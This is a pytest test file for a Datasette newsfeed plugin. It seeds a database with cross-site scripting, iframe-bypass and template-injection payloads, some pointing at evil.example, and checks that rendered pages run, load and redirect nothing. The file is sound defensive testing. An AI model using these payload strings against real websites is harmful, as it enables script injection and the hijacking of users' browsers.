"""An archive that attacks its readers: whatever a record holds, pages show it as text.

Every text of every table is a payload, and so is what an address asks for. Each page
is read as a browser reads it; what would run, load or lead away is a fault.
"""

from __future__ import annotations

import html
import re
import sqlite3
from collections.abc import Iterator
from contextlib import closing
from html.parser import HTMLParser
from pathlib import Path
from typing import Any
from urllib.parse import quote, quote_plus, urlsplit

import pytest
import sqlite_utils
from datasette.utils import tilde_encode
from pages_site import build_archive, open_site
from share import share

from datasette_newsfeed import schema
from datasette_newsfeed.image_urls import image_id

MARK = "pwn"
"""Stands in every payload, so that what runs can be told from Datasette's own scripts."""

PAYLOADS = [
    "<script>pwn()</script>",
    '"><img src=x onerror=pwn()>',
    "'><svg/onload=pwn()>",
    "' onmouseover='pwn()' x='",
    '" autofocus onfocus="pwn()" x="',
    "javascript:pwn()",
    " JaVa\tScRiPt:pwn()",
    "\x01javascript:pwn()",
    "data:text/html,<script>pwn()</script>",
    "vbscript:pwn()",
    "</title></textarea></style></script></template><script>pwn()</script>",
    "--><script>pwn()</script><!--",
    "<iframe src=//evil.example/pwn></iframe>",
    "<iframe srcdoc='<script>pwn()</script>'></iframe>",
    "<object data=//evil.example/pwn></object><embed src=//evil.example/pwn>",
    "<base href=//evil.example/pwn><meta http-equiv=refresh content='0;url=//evil.example/pwn'>",
    "<form action=//evil.example/pwn><button formaction=javascript:pwn()>",
    "<math><mtext><style><img src=x onerror=pwn()></style></mtext></math>",
    "&lt;script&gt;pwn()&lt;/script&gt; &#60;script&#62;pwn()",
    "{{ 1337 * 7 }}{% for pwn in x %}{{ self.__init__ }}",
    "\x02<script>pwn()</script>\x03",
    'https://evil.example/pwn" onload="pwn()',
    "https://evil.example/pwn'><script>pwn()</script>",
    "https://evil.example/pwn, javascript:pwn() 2x",
    "//evil.example/pwn",
    "http://[pwn",
    "https:\n//evil.example/pwn",
    "[x](javascript:pwn()) ![x](data:text/html,pwn) <javascript:pwn()> [y]: javascript:pwn()",
    '[a](https://a.example/"onclick="pwn()) ![b](https://a.example/b"onerror="pwn())',
    "```html\n<script>pwn()</script>\n```\n\n    <script>pwn()</script>\n\n<pwn@evil.example>",
]

YOUTUBE = "www.youtube.com/embed/pwnpwnpwnpw"
PLAYERS = [
    f'<iframe src="https://{YOUTUBE}" onload="pwn()" srcdoc="<script>pwn()</script>"></iframe>',
    f'<iframe src="https://{YOUTUBE}"onload="pwn()"></iframe><script>pwn()</script>',
    "<iframe src='https://player.vimeo.com/video/123\"><script>pwn()</script>'></iframe>",
    f'<iframe src="javascript://{YOUTUBE}%0apwn()"></iframe>',
    f'<iframe src="data:text/html,https://{YOUTUBE}"></iframe>',
    f'<iframe src="https://{YOUTUBE}?x=%22%3E%3Cscript%3Epwn()"></iframe>',
    f'<iframe src="https://evil.example/pwn#@{YOUTUBE}"></iframe>',
    f'<iframe src="https://evil.example\\@{YOUTUBE}"></iframe>',
    f'<iframe src="https://{YOUTUBE.replace("/", ".evil.example/", 1)}"></iframe>',
    f'<iframe src="https://evil.example/https://{YOUTUBE}"></iframe>',
    '<iframe src="https://www.youtube.com/embed/../redirect?q=//evil.example/pwn"></iframe>',
    '<iframe src="https://www.youtube.com/embed/pwnpwnpw&quot;onload=pwn()"></iframe>',
    f'<IFRAME/SRC=//{YOUTUBE}\tonload=pwn()><![CDATA[<!--<iframe src="//evil.example/pwn">',
]


def _full(table: schema.Table, payload: str, **more: Any) -> dict[str, Any]:
    """A row with the payload in every text; numbers stay empty."""
    row = {
        column.name: payload if column.type == "TEXT" and not column.references else None
        for column in table.columns
    }
    return {**row, **more}


@pytest.fixture(scope="module")
def archive(tmp_path_factory: pytest.TempPathFactory) -> Path:
    path = tmp_path_factory.mktemp("hostile") / "news.db"
    db = sqlite_utils.Database(path)
    schema.create(db)
    texts = [*PAYLOADS, *PLAYERS]
    last = f"{len(texts) - 1:02} {texts[-1]}"
    for number, payload in enumerate(texts):
        key = f"{number:02} {payload}"
        picture = image_id(payload)
        db.table("images").insert(_full(schema.IMAGES, payload, id=picture, width=9, height=9))
        provider = _full(schema.PROVIDERS, payload, domain=key, image_id=picture)
        db.table("providers").insert(provider)
        db.table("topics").insert({"name": payload})
        db.table("authors").insert({"name": payload})
        article = _full(schema.ARTICLES, payload, id=key, image_id=picture, provider_id=key)
        if number < 20:  # a date for the timeline, else whatever stands there
            article["published_at"] = f"2021-04-{number + 1:02}T00:00:00Z"
        article |= {"heat": number, "type": "video" if number % 2 else payload}
        # Three neighbours tell one story, which the second leads.
        story = f"{number - number % 3:02} {texts[number - number % 3]}"
        article |= {"story_id": story, "is_headline": int(number % 3 == 1)}
        db.table("articles").insert(article)
        if number % 3 == 1 or (number % 3 == 0 and key == last):
            row = _full(schema.STORIES, payload, id=story, headline_id=key, size=3)
            db.table("stories").insert(row)
        # One of another story, and a topic that these two alone have: the reason to list it.
        first = number - 3 if number % 6 > 2 else number
        first -= 6 if first + 3 >= len(texts) else 0
        other = first + 3 if first == number else first
        for place, like in enumerate((key, f"{other:02} {texts[other]}")):
            row = _full(schema.SIMILAR_ARTICLES, payload, article_id=key, position=place)
            db.table("similar_articles").insert({**row, "similar_id": like, "score": 0.5})
        here = {"article_id": key, "position": 0}
        db.table("article_topics").insert({**here, "topic": payload})
        shared = f"{texts[first]} and another"
        db.table("topics").insert({"name": shared}, ignore=True)
        db.table("article_topics").insert({**here, "position": 1, "topic": shared})
        db.table("article_authors").insert({**here, "author": payload})
        for place in (0, 1):
            row = _full(schema.ARTICLE_IMAGES, payload, article_id=key, position=place)
            db.table("article_images").insert({**row, "image_id": picture})
        for place, related in enumerate((None, key)):
            row = _full(schema.RELATED_ARTICLES, payload, article_id=key, position=place)
            row |= {"provider_id": key, "image_id": picture, "related_id": related}
            db.table("related_articles").insert(row)
    db.close()
    return path


ADDRESSES = ("href", "src", "action", "formaction", "data", "poster", "background", "xlink:href")
HARMLESS = ("http", "https", "mailto", "")


class Page(HTMLParser):
    """Reads a page as a browser does, and keeps what would run, load or lead away."""

    def __init__(self, page: str, in_frame: bool = False) -> None:
        super().__init__()
        self.faults: list[str] = []
        self.tags: list[tuple[str, dict[str, str]]] = []
        self.in_frame = in_frame
        self._in_script = False
        self.feed(page)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        attributes = {name: value or "" for name, value in attrs}
        self.tags.append((tag, attributes))
        # Data for search engines never runs; test_preview.py reads it as JSON.
        is_data = attributes.get("type") == "application/ld+json" and not self.in_frame
        self._in_script = tag in ("script", "style") and not is_data
        if (tag == "script" and self.in_frame) or tag in ("object", "embed", "base", "applet"):
            self.faults.append(f"<{tag}>")
        if tag == "meta" and attributes.get("http-equiv", "").lower() == "refresh":
            self.faults.append("<meta refresh>")
        for name, value in attributes.items():
            if name.startswith("on") and (MARK in value or self.in_frame):
                self.faults.append(f"<{tag} {name}={value!r}>")
            if name == "style" and MARK in value:
                self.faults.append(f"<{tag} style={value!r}>")
            if name in ADDRESSES:
                self._read_address(tag, name, value)
        if tag == "iframe":
            self._read_frame(attributes)

    def _read_address(self, tag: str, name: str, value: str) -> None:
        bare = re.sub(r"[\x00-\x20]", "", value)
        scheme = re.match(r"([a-z][a-z0-9+.-]*):", bare, re.I)
        if (scheme[1].lower() if scheme else "") not in HARMLESS:
            self.faults.append(f"<{tag} {name}={value!r}>")
        host = urlsplit(bare).netloc if not bare.startswith("http://[") else "broken"
        loads = tag in ("iframe", "script", "link", "form", "button", "input")
        if loads and host not in ("", "localhost"):
            self.faults.append(f"<{tag} {name}={value!r}>")

    def _read_frame(self, attributes: dict[str, str]) -> None:
        if attributes.get("class") != "newsfeed-player" or "src" in attributes or self.in_frame:
            self.faults.append(f"<iframe {attributes}>")
            return
        if "allow-top-navigation" in attributes.get("sandbox", "allow-top-navigation"):
            self.faults.append("a frame without sandbox")
        frame = Page(attributes["srcdoc"], in_frame=True)
        self.faults += [f"in the frame: {fault}" for fault in frame.faults]
        ways = [found["href"] for tag, found in frame.tags if tag == "a"]
        if [urlsplit(way).netloc for way in ways] not in (
            ["www.youtube-nocookie.com"],
            ["player.vimeo.com"],
        ):
            self.faults.append(f"a frame that leads to {ways}")

    def handle_endtag(self, tag: str) -> None:
        if tag in ("script", "style"):
            self._in_script = False

    def handle_data(self, data: str) -> None:
        if self._in_script and MARK in data:
            self.faults.append(f"a script or style of theirs: {data[:80]!r}")


def test_the_reader_of_pages_finds_what_would_run() -> None:
    for payload in PAYLOADS:
        if re.match(r"[\"'-]*>?<(?!pwn|math)", payload):
            assert Page(f'<p title="">{payload}').faults, payload
    for attack in (
        "<a href=' java\tscript:pwn()'>",
        "<img src='data:x'>",
        "<p onclick='pwn()'>",
        "<p style='background: url(pwn)'>",
        "<iframe src='https://www.youtube.com/embed/x'>",
        "<iframe class=newsfeed-player srcdoc='<script>1</script>' sandbox>",
        "<iframe class=newsfeed-player srcdoc='<a href=//evil.example>' sandbox>",
        "<iframe class=newsfeed-player srcdoc='<a href=//player.vimeo.com/1>'>",
        "<form action='//evil.example'>",
        "<script src='//evil.example'></script>",
        "<style>pwn</style>",
    ):
        assert Page(attack).faults, attack
    fine = "<iframe class=newsfeed-player sandbox srcdoc='<a href=//player.vimeo.com/1>'>"
    assert Page(f"<a href='/x' onclick='core()'>{fine}<script>core()</script>").faults == []


def keys() -> Iterator[tuple[str, str]]:
    for number, payload in enumerate([*PAYLOADS, *PLAYERS]):
        yield f"{number:02} {payload}", payload


async def attack(datasette: Any, path: str, *statuses: int) -> str:
    response = await datasette.client.get(path, follow_redirects=True)
    assert response.status_code in (statuses or (200,)), (path, response.text)
    page = Page(response.text)
    assert page.faults == [], path
    assert "9359" not in response.text, path  # a template within a text
    return str(response.text)


async def test_lists_of_cards(archive: Path) -> None:
    datasette = open_site(archive)
    for path in (
        *("/", "/news", "/news/articles?_size=max", "/news/articles?_size=max&_layout=table"),
        *("/news/topics", "/news/providers", "/news/authors", "/news/images?_size=max"),
        *("/news/article_images", "/news/related_articles?_size=max", "/news/article_list"),
        *("/news/stories?_size=max", "/news/stories?_size=max&_layout=table&_facet=headline_id"),
        *("/news/similar_articles?_size=max", "/news/articles?is_headline=1&_size=max"),
        "/news/articles?_facet=title&_facet=image_id&_facet=category&_facet_presence=related"
        "&_facet_band=quality&_facet_period=updated_at&_facet_size=max",
    ):
        page = await attack(datasette, path)
        assert MARK in page
    everything = await attack(datasette, "/news/articles?_size=max")
    assert "newsfeed-timeline" in everything
    assert everything.count('<article class="newsfeed-card') == len(PAYLOADS) + len(PLAYERS)


def _story_of(archive: Path, key: str) -> str:
    sql = "select story_id from articles where id = ?"
    with closing(sqlite3.connect(archive)) as db:
        return str(db.execute(sql, [key]).fetchone()[0])


@pytest.mark.parametrize(("key", "payload"), share(keys()), ids=lambda text: ascii(text)[:30])
async def test_one_article_and_all_around_it(archive: Path, key: str, payload: str) -> None:
    datasette = open_site(archive)
    story = await attack(datasette, f"/news/articles/{tilde_encode(key)}")
    assert 'class="newsfeed newsfeed-full"' in story
    for table, name in (("providers", key), ("topics", payload), ("authors", payload)):
        page = await attack(datasette, f"/news/{table}/{tilde_encode(name)}")
        assert 'class="newsfeed newsfeed-newest"' in page
    for part in ("fellows", "similar"):
        assert f'<section class="newsfeed-{part}"' in story
    story_key = tilde_encode(_story_of(archive, key))
    told = await attack(datasette, f"/news/stories/{story_key}")
    assert told.count('<article class="newsfeed-card') >= 1
    led = await datasette.client.get(f"/news/stories/{tilde_encode(key)}")
    assert led.headers.get("location", f"/news/stories/{story_key}") == f"/news/stories/{story_key}"
    await attack(datasette, f"/news/similar_articles/{tilde_encode(key)},1")
    await attack(datasette, f"/news/images/{image_id(payload)}")
    await attack(datasette, f"/news/related_articles/{tilde_encode(key)},1")
    await attack(datasette, f"/news/article_images/{tilde_encode(key)},0")


ASKED_FOR = (
    "'\"></title><script>pwn()</script><img src=x onerror=pwn()>",
    "javascript:pwn()",
    "x{{ 1337 * 7 }}",  # Datasette itself fails at a facet whose name begins as JSON does
)
PARAMETERS = (
    *("_topic", "_related", "_layout", "title", "title__contains", "provider_id", "heat__gte"),
    *("heat__lt", "published_at__gte", "published_at__lt", "published_at__isblank", "type"),
    *("_facet_topic", "_facet_period", "_facet_band", "_facet_presence", "_next", "_facet_size"),
    *("_shape", "_labels", "_unknown"),
)


@pytest.mark.parametrize("parameter", share(PARAMETERS))
async def test_an_address_attacks_no_one_either(archive: Path, parameter: str) -> None:
    datasette = open_site(archive)
    for payload in ASKED_FOR:
        for layout in ("cards", "table"):
            more = f"&_layout={layout}&_size=2&_nosuggest=1"
            path = f"/news/articles?{parameter}={quote_plus(payload)}{more}"
            await attack(datasette, path, 200, 400)


async def test_the_search_attacks_no_one_either(archive: Path) -> None:
    datasette = open_site(archive)
    found = 0
    ours = (MARK, "script", "onerror", "javascript", "evil", "iframe")
    for words in (*share([*PAYLOADS, *PLAYERS]), *ours):
        page = await attack(datasette, f"/news/-/newsfeed/search?q={quote_plus(words)}")
        found += page.count("<mark>")
        await attack(datasette, f"/news/-/newsfeed/search?q=x&page={quote_plus(words)}", 400)
        if words.replace("\0", "").strip('" '):
            path = f"/news/articles?_search={quote_plus(words)}"
            await attack(datasette, path, 200, 400)
    assert found > 100


async def test_keys_of_rows_in_an_address(archive: Path) -> None:
    datasette = open_site(archive)
    for payload in share(PAYLOADS):
        for path in (
            *(f"/news/articles/{quote(payload, safe='')}", f"/{quote(payload, safe='')}/articles"),
            f"/news/-/newsfeed/image/{quote(payload, safe='')}/320",
            f"/{quote(payload, safe='')}/-/newsfeed/search?q=x",
        ):
            await attack(datasette, path, 200, 404, 400, 302)


async def test_a_title_from_metadata(tmp_path: Path) -> None:
    path = build_archive(tmp_path / "news.db")
    for payload in PAYLOADS[:5]:
        metadata = {"databases": {"news": {"title": payload}}}
        page = await attack(open_site(path, metadata=metadata), "/")
        assert html.escape(payload).replace("&quot;", "&#34;").replace("&#x27;", "&#39;") in page
